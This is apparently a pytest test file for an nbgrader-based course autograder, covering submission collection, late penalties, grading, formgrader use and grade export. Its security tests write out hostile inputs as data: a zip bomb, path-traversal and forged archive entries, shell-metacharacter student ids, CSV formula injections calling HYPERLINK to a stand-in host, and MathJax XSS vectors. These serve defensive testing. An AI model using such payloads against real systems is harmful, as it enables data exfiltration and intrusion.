"""A term as the README walks it: a made-up class as the learning platform hands it over, collected,
graded, written answers graded by a person, grades and feedback exported for the platform."""
from __future__ import annotations

import csv
import hashlib
import zipfile
from pathlib import Path

import pytest

from autograder.course.questions import QUESTIONS

from conftest import graded_points, run_cli

A = "ch2_forward"


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _rows(path: Path) -> list[dict]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def _term(tmp: Path, lms: str = "canvas", students: int = 30) -> tuple[dict, Path, Path]:
    env = {"BN_GRADER_ROOT": str(tmp / "root")}
    done = run_cli("sample-class", A, "--term", str(tmp / "class"), "--lms", lms, "--students", str(students), env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    return env, tmp / "class" / f"{A}_{lms}.zip", tmp / "class" / "roster.csv"


# ---- collect --------------------------------------------------------------------------------------

def test_collect_a_canvas_download(tmp_path):
    env, archive, roster = _term(tmp_path)
    before = _digest(archive)
    assert run_cli("due", A, "2026-10-05 23:59 UTC", env=env).returncode == 0
    done = run_cli("collect", A, str(archive), env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    out = done.stdout
    assert "collected 28 submission(s), replaced 0, kept 0 earlier, unmatched 5 file(s)" in out
    assert "derivation.pdf: not a notebook (.pdf)" in out
    assert "ch9_unknown.ipynb: not a notebook of ch2_forward" in out
    assert ".DS_Store: hidden or system file" in out and "__MACOSX" in out
    assert "silva--ines_41056_900104_ch2_forward.ipynb: older submission of 41056" in out
    submitted = tmp_path / "root" / "submitted"
    # renamed copies land at nbgrader's standard path
    for sid in ("41021", "41028"):                        # "ch2_forward (1).ipynb", "ch2_forward-1.ipynb"
        assert (submitted / sid / A / f"{A}.ipynb").is_file()
    # the newer of the two submissions is kept: the earlier one has the planted bug
    kept = (submitted / "41056" / A / f"{A}.ipynb").read_text()
    assert "ddof=1" not in kept
    # times from the archive, Canvas's LATE marker included
    assert (submitted / "41049" / A / "timestamp.txt").read_text().startswith("2026-10-09 01:59")
    assert (submitted / "41000" / A / "timestamp.txt").read_text().startswith("2026-10-04 17:59")
    assert len(list(submitted.iterdir())) == 28
    assert _digest(archive) == before                    # the download is only read

    # collecting the same download again overwrites nothing
    again = run_cli("collect", A, str(archive), env=env)
    assert "collected 0 submission(s), replaced 0, kept 28 earlier" in again.stdout, again.stdout
    # a newer submission replaces the earlier one, says so, and keeps the earlier copy
    late = tmp_path / "later"
    late.mkdir()
    with zipfile.ZipFile(archive) as z:
        info = z.getinfo("lovelace--ada_41000_900000_ch2_forward.ipynb")
        data = z.read(info)
    newer = zipfile.ZipInfo("lovelace--ada_41000_900999_ch2_forward.ipynb", date_time=(2026, 10, 5, 22, 0, 0))
    with zipfile.ZipFile(late / "resubmitted.zip", "w") as z:
        z.writestr(newer, data)
    done = run_cli("collect", A, str(late / "resubmitted.zip"), env=env)
    assert "collected 1 submission(s), replaced 1" in done.stdout, done.stdout
    assert "replaced  41000: 2026-10-04 17:59 -> 2026-10-05 22:00" in done.stdout
    assert (submitted / "41000" / A / "timestamp.txt").read_text().startswith("2026-10-05 22:00")
    assert list((tmp_path / "root" / "downloaded" / A / "replaced" / "41000").glob("*/ch2_forward.ipynb"))


@pytest.mark.parametrize("lms", ["moodle", "plain"])
def test_collect_other_platforms(tmp_path, lms):
    env, archive, _ = _term(tmp_path, lms=lms, students=12)
    done = run_cli("collect", A, str(archive), "--lms", lms, env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "collected 10 submission(s)" in done.stdout and "unmatched 5 file(s)" in done.stdout, done.stdout
    assert (tmp_path / "root" / "submitted" / "41021" / A / f"{A}.ipynb").is_file()


def test_collect_a_folder_with_a_custom_pattern(tmp_path):
    folder = tmp_path / "download"
    (folder / "week2").mkdir(parents=True)
    src = Path(__file__).resolve().parents[1] / "exercises" / A / f"{A}.ipynb"
    (folder / "week2" / f"s-17--{A}.ipynb").write_bytes(src.read_bytes())
    (folder / "week2" / "s-18--notes.txt").write_text("hello")
    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
    done = run_cli("collect", A, str(folder), "--pattern", r"week2/(?P<student_id>s-\d+)--(?P<file_id>[^/]+)$", env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "collected 1 submission(s)" in done.stdout and "s-18--notes.txt: not a notebook (.txt)" in done.stdout
    assert (tmp_path / "root" / "submitted" / "s-17" / A / f"{A}.ipynb").is_file()


# ---- collect: a download no student can steer (issue 25) ----------------------------------------

def _notebook_bytes() -> bytes:
    return (Path(__file__).resolve().parents[1] / "exercises" / A / f"{A}.ipynb").read_bytes()


def _entry(name: str, when=(2026, 10, 4, 12, 0, 0), mode: int | None = None) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name, date_time=when)
    info.compress_type = zipfile.ZIP_DEFLATED
    if mode is not None:
        info.external_attr = mode << 16
    return info


@pytest.mark.parametrize("name,student,late", [
    # as Canvas's zipper writes them: sortable name, " LATE_", non-word characters to "-", downcased
    ("lovelace--ada_41000_900000_ch2_forward.ipynb", "41000", False),
    ("lovelace--ada-late_41000_900000_ch2_forward.ipynb", "41000", True),
    ("o-brien--mary-jane-late_41007_900013_ch2_forward-1.ipynb", "41007", True),
    ("o_brien--ann_41014_900026_ch2_forward.ipynb", "41014", False),   # \w keeps "_" in a name
    ("berg---sum-1-1-_41063_900117_ch2_forward.ipynb", "41063", False),
    ("smith--bob-12345--late_41070_900130_ch2_forward.ipynb", "41070", True),  # "_12345_" -> "-12345-"
    ("adalovelace_LATE_41000_900000_ch2_forward.ipynb", "41000", True),  # older downloads
    ("kate--blate_41077_900143_ch2_forward.ipynb", "41077", False),
])
def test_canvas_pattern_reads_canvas_real_names(name, student, late):
    import re

    from autograder.term.settings import PATTERNS
    match = re.match(PATTERNS["canvas"], name)
    assert match, name
    assert match["student_id"] == student and bool(match["late"]) == late
    assert match["file_id"].startswith(A)
    # a name below a top-level entry is never a platform's entry
    assert re.match(PATTERNS["canvas"], f"lovelace--ada_41000_900000_work/{name}") is None


def test_zip_bomb_is_refused_before_extraction(tmp_path):
    bomb = tmp_path / "download.zip"
    zeros = bytes(1 << 20)
    with zipfile.ZipFile(bomb, "w") as z:
        with z.open(_entry(f"lovelace--ada_41000_900000_{A}.ipynb"), "w") as f:
            for _ in range(400):                      # 400 MiB once extracted
                f.write(zeros)
    assert bomb.stat().st_size < 1 << 20              # a small download
    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
    done = run_cli("collect", A, str(bomb), env=env)
    assert done.returncode != 0
    assert "zip bomb, refused before extraction" in done.stderr and "Traceback" not in done.stderr, done.stderr
    written = [p for p in (tmp_path / "root").rglob("*") if p.is_file()]
    assert sum(p.stat().st_size for p in written) < 1 << 20, written   # nothing was extracted


def test_collect_takes_only_what_the_platform_put_there(tmp_path):
    import io
    import stat
    honest, marker = _notebook_bytes(), uuid_marker()
    forged = honest.replace(b'"cells": [', b'"cells": [{"cell_type": "markdown", "metadata": {}, "source": "'
                            + marker.encode() + b'"},', 1)
    inner = io.BytesIO()                                # a zip a student uploaded: forges 41056, invents 49999
    with zipfile.ZipFile(inner, "w") as z:
        z.writestr(_entry(f"silva--ines_41056_900999_{A}.ipynb", when=(2026, 10, 5, 23, 0, 0)), forged)
        z.writestr(_entry(f"nobody_49999_1_{A}.ipynb"), forged)
    outside = Path("/tmp") / f"abs-{marker}.ipynb"
    download = tmp_path / "download.zip"
    with zipfile.ZipFile(download, "w") as z:
        z.writestr(_entry(f"lovelace--ada_41000_900000_{A}.ipynb"), honest)
        z.writestr(_entry(f"silva--ines_41056_900104_{A}.ipynb", when=(2026, 10, 3, 9, 0, 0)), honest)
        z.writestr(_entry("lovelace--ada_41000_900000_work.zip"), inner.getvalue())
        z.writestr(_entry("okafor--ben_41007_900013_run.sh", mode=stat.S_IFREG | 0o4755), b"#!/bin/sh\n")
        z.writestr(_entry("martin--chloe_41014_900026_locked/", mode=stat.S_IFDIR | 0o000), b"")
        z.writestr(_entry(f"martin--chloe_41014_900026_locked/{A}.ipynb", mode=stat.S_IFREG | 0o000), honest)
        z.writestr(_entry(f"../patel--dev_41021_900039_{A}.ipynb"), forged)
        z.writestr(_entry(str(outside)), forged)
    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
    done = run_cli("collect", A, str(download), env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    out = done.stdout
    submitted = tmp_path / "root" / "submitted"
    assert sorted(p.name for p in submitted.iterdir()) == ["41000", "41056"], out
    assert marker not in (submitted / "41056" / A / f"{A}.ipynb").read_text()       # not replaced
    assert (submitted / "41056" / A / "timestamp.txt").read_text().startswith("2026-10-03 09:00")
    assert "lovelace--ada_41000_900000_work.zip: not a notebook (.zip)" in out, out
    assert "refused: a '..' in the path" in out and "refused: an absolute path" in out, out
    assert not outside.exists() and not (tmp_path / "root" / "downloaded" / A / f"patel--dev_41021_900039_{A}.ipynb").exists()
    assert not list(tmp_path.rglob("*41021*"))
    extracted = tmp_path / "root" / "downloaded" / A / "extracted"
    for path in [extracted, *extracted.rglob("*")]:     # the course's modes, not the zip's
        mode = stat.S_IMODE(path.lstat().st_mode)
        assert mode == (0o755 if path.is_dir() else 0o644), (path, oct(mode))
    assert (extracted / "download" / "okafor--ben_41007_900013_run.sh").is_file()


def uuid_marker() -> str:
    import uuid
    return f"FORGED-{uuid.uuid4().hex[:8]}"


def test_unsafe_ids_are_refused_in_collect_and_roster(tmp_path):
    download = tmp_path / "download.zip"
    with zipfile.ZipFile(download, "w") as z:
        z.writestr(_entry(f"41000/{A}.ipynb"), _notebook_bytes())
        z.writestr(_entry(f"*/{A}.ipynb"), _notebook_bytes())        # nbgrader reads ids as globs
        z.writestr(_entry(f"a b;rm/{A}.ipynb"), _notebook_bytes())
    env = {"BN_GRADER_ROOT": str(tmp_path / "root")}
    done = run_cli("collect", A, str(download), "--lms", "plain", env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "collected 1 submission(s)" in done.stdout, done.stdout
    assert "student id '*' refused (letters, digits and . _ - @ only" in done.stdout, done.stdout
    assert "student id 'a b;rm' refused" in done.stdout
    assert sorted(p.name for p in (tmp_path / "root" / "submitted").iterdir()) == ["41000"]
    from autograder.term.roster import read_roster
    for bad in ("*", "a\nb", "../x", "x" * 65, ".hidden"):
        roster = tmp_path / "roster.csv"
        with open(roster, "w", newline="") as f:
            csv.writer(f).writerows([["id", "name", "email"], ["41000", "Ada", ""], [bad, "Eve", ""]])
        with pytest.raises(SystemExit, match="refused"):
            read_roster(roster)
    assert [r["id"] for r in read_roster(_roster(tmp_path, "ada.l@uni-x.example"))] == ["41000", "ada.l@uni-x.example"]


def _roster(tmp: Path, extra: str) -> Path:
    path = tmp / "ok.csv"
    with open(path, "w", newline="") as f:
        csv.writer(f).writerows([["id", "name", "email"], ["41000", "Ada", ""], [extra, "Eve", ""]])
    return path


def test_grade_refuses_a_submitted_folder_that_is_not_an_id(tmp_path):
    root = tmp_path / "root"
    for sid in ("*", "two\nlines", "41000"):
        (root / "submitted" / sid / A).mkdir(parents=True)
        (root / "submitted" / sid / A / f"{A}.ipynb").write_bytes(_notebook_bytes())
    done = run_cli("grade", A, "--quiet", "--no-feedback", env={"BN_GRADER_ROOT": str(root)})
    assert done.returncode == 0, (done.stdout + done.stderr)[-3000:]
    lines = {ln.split()[0]: ln for ln in done.stdout.splitlines() if ln.split()}
    for shown in ("*", "two\\nlines"):
        assert "refused  REFUSED: submitted/" in lines[shown] and "is not a student id" in lines[shown], done.stdout
        assert "could not autograde" not in lines[shown]
    assert "41000" in lines and "REFUSED" not in lines["41000"]
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        assert sorted(s.id for s in gb.students) == ["41000"]


@pytest.mark.parametrize("args,message", [
    (["collect", A, "/nonexistent/x.zip"], "does not exist"),
    (["collect", A, __file__], "neither a folder nor a zip"),
    (["collect", A, ".", "--pattern", "(?P<student_id"], "not a regular expression"),
    (["due", A, "next tuesday-ish"], "is not a date"),
])
def test_bad_input_gets_one_clear_line(tmp_path, args, message):
    done = run_cli(*args, env={"BN_GRADER_ROOT": str(tmp_path)})
    assert done.returncode != 0
    assert message in done.stderr and "Traceback" not in done.stderr, done.stderr[-1500:]


def test_late_policy_and_neutral_csv(tmp_path):
    from autograder.grader.grades import write_csv
    from autograder.term.late import CoursePenalty
    p = CoursePenalty()
    assert p.late_submission_penalty("s", 10, 10 * 60) == 0           # within 15 minutes' grace
    assert p.late_submission_penalty("s", 10, 3600) == 1              # a started day: 10 %
    assert p.late_submission_penalty("s", 10, 86400 * 2.5) == 3       # three started days
    assert p.late_submission_penalty("s", 10, 86400 * 30) == 5        # at most half
    dest = write_csv(tmp_path / "x.csv", ["name", "score"],
                     [["=SUM(1+1)", 3], ["+1", 2.5], ["@cmd", None], ["-x", 0], ["plain", 1]])
    text = dest.read_text()
    assert "\"'=SUM(1+1)\"" in text and "\"'+1\"" in text and "\"'@cmd\"" in text and "\"'-x\"" in text
    assert "\n\"plain\",1\n" in text.replace("\r\n", "\n")


# Every character a spreadsheet may skip before a formula: Unicode whitespace, and the invisible
# format characters (zero-width space, BOM) that an editor lets through.
_LEADING = [chr(c) for c in range(0x3001) if chr(c).isspace()] + ["\u200b", "\ufeff", "\u2060"]
_FORMULA = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]


def _read_as_formula(cell: str) -> bool:
    """What a spreadsheet does with a text field: leading blanks skipped, then a formula sign."""
    return cell.lstrip("".join(_LEADING))[:1] in _FORMULA


def test_csv_guard_sees_through_leading_whitespace(tmp_path):
    from autograder.grader.grades import write_csv
    from autograder.grader.safety import csv_cell
    assert len(_LEADING) > 25 and "\t" in _LEADING and "\u00a0" in _LEADING and "\u3000" in _LEADING
    attacks = [lead + sign + 'HYPERLINK("http://x.example/?"&A1,"open")'
               for lead in ["", *_LEADING, "\t \u00a0", "\r\n"] for sign in _FORMULA]
    escaped = [a for a in attacks if _read_as_formula(csv_cell(a))]
    assert escaped == [], f"{len(escaped)} formulas escape the guard, e.g. {escaped[:3]!r}"
    assert all("HYPERLINK" in csv_cell(a) for a in attacks)           # shown, not dropped
    # the tab of the issue: it becomes a space, and the formula behind it is still neutralized
    assert csv_cell("\t=HYPERLINK(1)").startswith("'")
    for text in ("plain", " leading space", "a=b", "x-1", "\u00a0text"):
        assert csv_cell(text) == text                                   # ordinary text unchanged
    # through the CSV writer and back, as a spreadsheet reads the file
    rows = [[a, 1] for a in attacks]
    dest = write_csv(tmp_path / "x.csv", ["name", "score"], rows)
    read = _rows(dest)
    assert len(read) == len(attacks) and not [r["name"] for r in read if _read_as_formula(r["name"])]


# ---- the whole term: grade, written answers, export -------------------------------------------------

@pytest.fixture(scope="module")
def term_class(tmp_path_factory):
    """A class of 10 (two never hand in, three late, one duplicate), collected and graded."""
    tmp = tmp_path_factory.mktemp("term")
    env, archive, roster = _term(tmp, students=10)
    for step in (["roster", str(roster)], ["due", A, "2026-10-05 23:59 UTC"], ["collect", A, str(archive)]):
        done = run_cli(*step, env=env)
        assert done.returncode == 0, (step, done.stderr[-2000:])
    graded = run_cli("grade", A, "--quiet", env=env)
    assert graded.returncode == 0, (graded.stdout + graded.stderr)[-3000:]
    return tmp / "root", env, graded


AUTO, WRITTEN = (sum(graded_points(A, kind).values()) for kind in ("code", "markdown"))
WRITTEN_ID = QUESTIONS[A][0].grade_id   # the written answer the formgrader tests grade


def _line(out: str, student: str) -> str:
    return next(ln for ln in out.splitlines() if ln.startswith(student + " "))


def test_table_marks_missing_late_and_written(term_class):
    root, env, graded = term_class
    out = graded.stdout
    assert "missing" in _line(out, "41056") and "MISSING: no submission" in _line(out, "41056")
    assert "missing" in _line(out, "41063")
    # two started days: 20 % of the full autograded score
    assert f"1 d 6 h late (-20 %), -{0.2 * AUTO:g} points" in _line(out, "41042")
    assert "5 min late (grace period)" in _line(out, "41035")
    assert "1 written answer awaits a person" in _line(out, "41000")
    assert "written answers await a person: `python -m autograder formgrader`" in out


def test_grades_csv_and_report_say_missing_not_zero(term_class):
    root, env, graded = term_class
    rows = {r["student_id"]: r for r in _rows(root / "grades.csv")}
    assert rows["41056"]["status"] == "missing" and rows["41056"]["score"] == ""
    assert rows["41000"]["status"] == "submitted" and float(rows["41000"]["score"]) == AUTO
    assert rows["41042"]["late"] == "1 d 6 h late (-20 %)"
    assert float(rows["41042"]["late_submission_penalty"]) == pytest.approx(0.2 * AUTO)
    assert rows["41000"]["written_awaiting"] == "1"
    report = (root / "grade_report.html").read_text()
    assert "2 missing, 3 late, " in report and "Missing (on the roster, no submission)" in report


def test_grades_csv_from_the_runs_standings_is_the_gradebooks(term_class, tmp_path, monkeypatch):
    """grades.csv is written from the standings read during the run (after each assignment's last
    gradebook write), not read again: the same file a fresh read of the gradebook writes, and a
    student the gradebook met after an assignment's standing was read is missing there, as a
    fresh read says."""
    import shutil

    from nbgrader.api import Gradebook

    from autograder.grader.config import make_api
    from autograder.term import grading
    from autograder.term.late import standing
    root, _, _ = term_class
    copy = tmp_path / "root"
    shutil.copytree(root, copy)
    monkeypatch.setenv("BN_GRADER_ROOT", str(copy))
    api = make_api()
    assert (root / "grades.csv").read_text() == grading.write_grades_csv(api, tmp_path / "fresh.csv").read_text()
    known = {A: standing(api, A)}
    with Gradebook(api.coursedir.db_url) as gb:
        gb.add_student("41999")  # met after A's standing was read
    reused = grading.write_grades_csv(api, tmp_path / "reused.csv", known).read_text()
    assert reused == grading.write_grades_csv(api, tmp_path / "fresh.csv").read_text()
    assert {r["student_id"]: r for r in _rows(tmp_path / "reused.csv")}["41999"]["status"] == "missing"
    assert "41999" not in known[A]


def _grade_written(root: Path, student: str, points: float) -> None:
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        grade = gb.find_grade(WRITTEN_ID, A, A, student)
        grade.manual_score = points
        gb.db.commit()


def test_export_for_canvas_and_moodle(term_class):
    root, env, _ = term_class
    _grade_written(root, "41042", WRITTEN)  # late: the penalty is recomputed on the new total
    done = run_cli("export", A, env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    out = root / "export"
    canvas = _rows(out / "canvas_grades.csv")
    assert canvas[0]["Student"] == "Points Possible" and float(canvas[0][A]) == AUTO + WRITTEN
    by_id = {r["ID"]: r for r in canvas[1:]}
    assert by_id["41056"][A] == ""                                     # missing: left unchanged
    assert float(by_id["41042"][A]) == pytest.approx((AUTO + WRITTEN) * 0.8)
    assert float(by_id["41000"][A]) == AUTO
    moodle = {r["ID number"]: r for r in _rows(out / "moodle_grades.csv")}
    assert moodle["41063"]["Full name"] == "'=SUM(1+1) Berg"            # a formula-looking name, neutralized
    assert moodle["41056"][f"{A} feedback"] == "missing: no submission"
    assert moodle["41000"]["Email address"] == "ada.lovelace@uni.example"
    with zipfile.ZipFile(out / "feedback" / A / "41000.zip") as z:
        assert [n for n in z.namelist() if not n.startswith("_mathjax/")] == [f"{A}_feedback_{A}.html"]
        assert "Score" in z.read(f"{A}_feedback_{A}.html").decode()
        assert "_mathjax/tex-chtml.js" in z.namelist()                 # math renders offline
    with zipfile.ZipFile(out / "feedback" / f"{A}_canvas_upload.zip") as z:
        assert "lovelace--ada_41000_900000_ch2_forward_feedback_ch2_forward.html" in z.namelist()
        assert len(z.namelist()) == 8
    late = (root / "feedback" / "41042" / A / f"{A}.html").read_text()
    assert "Late submission penalty" in late


def test_formgrader_grades_a_written_answer(term_class, tmp_path):
    """nbgrader's formgrader in headless Chromium: open a submission, grade its written answer,
    and the exported total changes."""
    import os
    import socket
    import subprocess
    import sys
    import time
    import urllib.request

    import nbformat
    from test_site import CHROMIUM, FLAGS
    root, env, _ = term_class
    from nbgrader.api import Gradebook
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        notebook_id = gb.find_submission_notebook(A, A, "41007").id
    assert run_cli("export", A, "--no-feedback", env=env).returncode == 0
    before = {r["ID"]: r for r in _rows(root / "export" / "canvas_grades.csv")}["41007"][A]
    assert float(before) == AUTO

    # the student's written answer as formgrader shows it carries TeX that would link and cover
    # the page (issue 25): formgrader's MathJax is the course's safe copy, served locally
    from test_render_safety import AUDIT, VECTORS
    autograded = root / "autograded" / "41007" / A / f"{A}.ipynb"
    nb = nbformat.read(autograded, as_version=4)
    answer = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == WRITTEN_ID)
    answer.source += "\n\n" + "\n\n".join(VECTORS)
    nbformat.write(nb, autograded)

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    token = "term-test-token"
    server = subprocess.Popen(
        [sys.executable, "-m", "autograder", "formgrader", "--port", str(port)],
        cwd=Path(__file__).resolve().parents[1], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
        env={**os.environ, **env, "JUPYTER_TOKEN": token, "HOME": str(tmp_path),
             "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}"})
    try:
        base = f"http://127.0.0.1:{port}"
        for _ in range(120):
            try:
                urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=2)
                break
            except OSError:
                if server.poll() is not None:
                    pytest.fail(server.stdout.read()[-3000:])
                time.sleep(0.5)
        from playwright.sync_api import sync_playwright
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
            page = browser.new_page()
            outside, scripts = [], []

            def route(r):  # nothing leaves the machine: a CDN request is recorded and refused
                if r.request.url.startswith(base):
                    if r.request.resource_type == "script":
                        scripts.append(r.request.url.split("?")[0])
                    r.continue_()
                else:
                    outside.append(r.request.url)
                    r.abort()
            page.route("**/*", route)
            page.goto(f"{base}/login?token={token}")          # Jupyter's login cookie
            with page.expect_response(lambda r: "/formgrader/api/grades" in r.url and r.ok, timeout=60000):
                page.goto(f"{base}/formgrader/submissions/{notebook_id}/")
            box = page.locator(f"input.score#{WRITTEN_ID}")
            box.wait_for(timeout=60000)
            assert "Because the normalized values of a batch" in page.content()
            page.wait_for_function("() => window.MathJax && MathJax.startup && MathJax.startup.promise", timeout=60000)
            page.evaluate("() => MathJax.startup.promise")
            assert outside == [], f"formgrader's page reached out: {outside[:3]}"
            assert f"{base}/static/mathjax/es5/tex-chtml.js" in scripts, scripts
            assert "ui/safe" in page.evaluate("() => MathJax.config.loader.load.join(' ')")
            assert page.locator("#notebook mjx-container").count() >= len(VECTORS)
            assert page.evaluate(AUDIT, "#notebook *") == []
            page.locator("#notebook mjx-container").first.dispatch_event("click")
            assert page.evaluate("() => window.PWNED") is None
            with page.expect_response(lambda r: "/formgrader/api/grade/" in r.url and r.request.method == "PUT"):
                box.fill(f"{WRITTEN:g}")
                box.press("Tab")
            browser.close()
    finally:
        server.terminate()
        try:
            server.wait(timeout=20)
        except subprocess.TimeoutExpired:
            server.kill()
    done = run_cli("export", A, "--no-feedback", env=env)
    assert done.returncode == 0, done.stderr[-2000:]
    after = {r["ID"]: r for r in _rows(root / "export" / "canvas_grades.csv")}["41007"][A]
    assert float(after) == AUTO + WRITTEN


@pytest.mark.parametrize("assignment", ["ch1_covariate_shift", "ch2_forward", "ch3_backward",
                                        "ch4_inference", "ch5_alternatives", "ch6_folding"])
def test_written_questions_end_each_exercise_with_the_rubric_hidden(assignment):
    """A manually graded answer cell (nbgrader grade + solution, markdown, with points) closes each
    exercise; the release keeps the question and drops the model answer and rubric."""
    import nbformat

    from autograder.course.questions import QUESTIONS
    repo = Path(__file__).resolve().parents[1]
    source = nbformat.read(repo / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)
    release = nbformat.read(repo / "exercises" / assignment / f"{assignment}.ipynb", as_version=4)
    ids = [q.grade_id for q in QUESTIONS[assignment]]
    last = source.cells[-1]
    assert last.cell_type == "markdown" and last.metadata.nbgrader["grade_id"] == ids[-1]
    assert last.metadata.nbgrader["grade"] and last.metadata.nbgrader["solution"]
    assert last.metadata.nbgrader["points"] > 0 and "Rubric" in last.source
    answer = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == ids[-1])
    prompt = next(c for c in release.cells if c.metadata.get("nbgrader", {}).get("grade_id") == ids[-1] + "_prompt")
    assert answer.source.strip() == "YOUR ANSWER HERE"
    assert QUESTIONS[assignment][-1].prompt[:40] in prompt.source
    text = (repo / "exercises" / assignment / f"{assignment}.ipynb").read_text()
    assert "Rubric" not in text and "Model answer" not in text
    exercise = (repo / "book" / f"{assignment}.md").read_text().split("## Exercise")[-1]
    points = sum(q.points for q in QUESTIONS[assignment])
    assert f"**written question** ({points:g} points)" in exercise, "the chapter's Exercise section"


def test_table_notes_are_cut_at_a_word():
    from autograder.grader.grades import cut
    message = "batchnorm_forward, case 'mean 1e4, std 1e-2': `out` differs from the reference (max abs error 0.41)"
    short = cut(message, 60)
    assert len(short) <= 60 and short.endswith(" …")
    assert message.startswith(short[:-2]) and message[len(short) - 2] == " "   # the cut falls between words
    assert cut("all checks pass", 60) == "all checks pass"
